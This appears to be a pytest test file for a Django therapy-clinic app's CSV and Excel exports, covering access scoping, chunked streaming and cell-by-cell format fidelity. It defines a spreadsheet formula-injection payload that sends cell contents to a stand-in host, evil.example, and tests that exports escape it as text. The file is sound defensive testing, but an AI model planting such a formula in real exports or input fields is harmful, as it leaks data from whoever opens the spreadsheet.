"""Exports hold exactly what the user may see, in chunks, as CSV and as Excel."""

import csv
import io
from datetime import date, time
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from alliance_app.clinic.models import Closure
from tests import factories
from tests.factories import rate

pytestmark = pytest.mark.django_db


@pytest.fixture
def clinic(org, therapist):
    """The therapist's client M-1 with four sessions; another therapist's client X-1."""
    mine = factories.client(org, therapist, code="M-1")
    episode = factories.episode(mine)
    for number, outcome in enumerate(["4 4 4 4", "5 5 5 5", "6 6 6 6", "7 7 7 7"], 1):
        session = factories.therapy_session(episode, number=number)
        rate(session, "outcome-adult", outcome)
        rate(session, "session-adult", "9.5 9.5 9.5 9.5")
    other = factories.client(org, factories.user(org), code="X-1")
    rate(factories.therapy_session(factories.episode(other)), "outcome-adult", "5 5 5 5")
    return mine


def download(http, dataset, fmt):
    response = http.get(reverse("export", args=[dataset, fmt]))
    assert response.status_code == 200
    return response


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(csv_text(response))))


def csv_text(response) -> str:
    return b"".join(response.streaming_content).decode()


def worksheet(response, name):
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))[name]


def test_the_ratings_csv_streams_only_the_users_clients(client, therapist, clinic):
    client.force_login(therapist)
    response = download(client, "ratings", "csv")
    assert response.streaming
    assert 'filename="alliance-ratings-' in response["Content-Disposition"]
    rows = csv_rows(response)
    assert len(rows) == 8
    assert {row["client"] for row in rows} == {"M-1"}
    first = rows[0]
    assert (first["session"], first["scale"], first["item_1"], first["total"]) == (
        "1",
        "outcome",
        "4.0",
        "16.0",
    )


@pytest.mark.parametrize("dataset", ["ratings", "outcomes"])
def test_chunks_join_seamlessly(client, org, clinic, settings, dataset):
    client.force_login(factories.user(org, role="admin"))
    whole = csv_rows(download(client, dataset, "csv"))
    settings.EXPORT_CHUNK_ROWS = 1
    assert csv_rows(download(client, dataset, "csv")) == whole


def test_episode_outcomes_classify_first_against_latest(client, therapist, clinic):
    client.force_login(therapist)
    (row,) = csv_rows(download(client, "outcomes", "csv"))
    # 16.0 in the clinical range → 28.0 above it, +12.0: recovered.
    assert (row["client"], row["first_total"], row["latest_total"]) == ("M-1", "16.0", "28.0")
    assert (row["change"], row["outcome"]) == ("12.0", "recovered")


def test_the_admin_exports_the_whole_organisation(client, org, clinic):
    client.force_login(factories.user(org, role="admin"))
    rows = csv_rows(download(client, "outcomes", "csv"))
    assert {row["client"] for row in rows} == {"M-1", "X-1"}
    assert [row["outcome"] for row in rows if row["client"] == "X-1"] == [""]  # one rating only


def test_an_empty_export_still_has_its_header(client, therapist):
    client.force_login(therapist)
    response = download(client, "ratings", "csv")
    assert b"".join(response.streaming_content).decode().startswith("client,episode,session")


def test_unknown_exports_are_not_found_and_strangers_are_sent_to_log_in(client, therapist):
    assert client.get(reverse("export", args=["ratings", "csv"])).status_code == 302
    client.force_login(therapist)
    assert client.get(reverse("export", args=["passwords", "csv"])).status_code == 404
    assert client.get(reverse("export", args=["ratings", "pdf"])).status_code == 404


FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"open")'


@pytest.fixture
def formula_label(org, therapist):
    """A partner's rating whose label a spreadsheet would run as a formula."""
    patient = factories.client(org, therapist, code="F-1")
    session = factories.therapy_session(factories.episode(patient))
    rate(session, "outcome-adult", "5 5 5 5", rater="partner", label=FORMULA)


def test_a_formula_in_the_ratings_csv_arrives_as_text(client, therapist, formula_label):
    client.force_login(therapist)
    (row,) = csv_rows(download(client, "ratings", "csv"))
    assert row["rater_label"] == "'" + FORMULA


def test_a_formula_in_the_ratings_excel_arrives_as_text(client, therapist, formula_label):
    client.force_login(therapist)
    sheet = worksheet(download(client, "ratings", "xlsx"), "ratings")
    header = [cell.value for cell in sheet[1]]
    label = sheet.cell(row=2, column=header.index("rater_label") + 1)
    assert (label.data_type, label.value) == ("s", "'" + FORMULA)


# The Excel file against the CSV, cell by cell. A number must be a number in Excel with the
# CSV's value; a date must be an Excel date (no time of day) on the CSV's ISO date; everything
# else is text, equal character for character (formula-like text carries the same apostrophe in
# both). An empty CSV cell is an empty Excel cell.
NUMBER_COLUMNS = {
    *("episode", "session", "item_1", "item_2", "item_3", "item_4", "total"),
    *("first_total", "latest_total", "change"),
}
DATE_COLUMNS = {"date", "opened", "closed"}


def csv_value(text: str, column: str):
    if text == "":
        return None
    if column in NUMBER_COLUMNS:
        return Decimal(text)
    if column in DATE_COLUMNS:
        return date.fromisoformat(text)
    return text


def excel_value(cell, column: str):
    if cell.value is None:
        return None
    if column in NUMBER_COLUMNS:
        assert (cell.data_type, cell.is_date) == ("n", False), (cell.coordinate, cell.value)
        return Decimal(str(cell.value))
    if column in DATE_COLUMNS:
        assert cell.is_date and cell.value.time() == time(0), (cell.coordinate, cell.value)
        return cell.value.date()
    assert cell.data_type == "s", (cell.coordinate, cell.value)
    return cell.value


@pytest.fixture
def practice(org):
    """A supervised team's therapist with seven clients, and a therapist outside the team.

    The ratings have decimals, two raters (one with a formula for a label), a client who got
    worse (a negative change), a closed episode and an episode with a single outcome rating (its
    outcome cells are empty). At three rows a chunk every export runs to several chunks.
    """
    north = factories.team(org)
    inside = factories.user(org, team=north)
    outside = factories.user(org)
    supervisor = factories.user(org, role="supervisor")
    supervisor.membership.supervised_teams.add(north)
    histories = [
        ["4 4 4 4", "5.5 5 5 6.5", "7 7 7 7.9"],
        ["8 8 8 8", "6 6 6 6", "5 5 5 5"],
        ["3.3 3.3 3.3 3.3"],
    ]
    for number in range(7):
        patient = factories.client(org, inside, code=f"N-{number}")
        episode = factories.episode(patient)
        for session_number, outcome in enumerate(histories[number % 3], 1):
            session = factories.therapy_session(episode, number=session_number)
            rate(session, "outcome-adult", outcome)
            rate(session, "session-adult", "9.5 9 8.5 10")
            if number == 1:
                rate(session, "outcome-adult", "6 6 6 6", rater="partner", label=FORMULA)
        if number == 4:
            episode.closed, episode.closure = date(2026, 3, 2), Closure.PLANNED
            episode.save(update_fields=["closed", "closure"])
    stranger = factories.client(org, outside, code="X-1")
    rate(factories.therapy_session(factories.episode(stranger)), "outcome-adult", "2 2 2 2")
    return {
        "supervisor": supervisor,
        "admin": factories.user(org, role="admin"),
        "clients": {
            "supervisor": {f"N-{number}" for number in range(7)},
            "admin": {f"N-{number}" for number in range(7)} | {"X-1"},
        },
    }


@pytest.mark.parametrize("dataset", ["ratings", "outcomes"])
@pytest.mark.parametrize("role", ["supervisor", "admin"])
def test_every_excel_cell_is_the_csv_cell(client, practice, settings, role, dataset):
    settings.EXPORT_CHUNK_ROWS = 3
    client.force_login(practice[role])
    header, *rows = csv.reader(io.StringIO(csv_text(download(client, dataset, "csv"))))
    assert len(rows) > 2 * settings.EXPORT_CHUNK_ROWS
    assert {row[0] for row in rows} == practice["clients"][role]

    sheet = worksheet(download(client, dataset, "xlsx"), dataset)
    excel_header, *excel_rows = sheet.iter_rows()
    assert [cell.value for cell in excel_header] == header
    assert len(excel_rows) == len(rows)
    for csv_row, excel_row in zip(rows, excel_rows, strict=True):
        assert [
            excel_value(cell, column) for cell, column in zip(excel_row, header, strict=True)
        ] == [csv_value(text, column) for text, column in zip(csv_row, header, strict=True)]
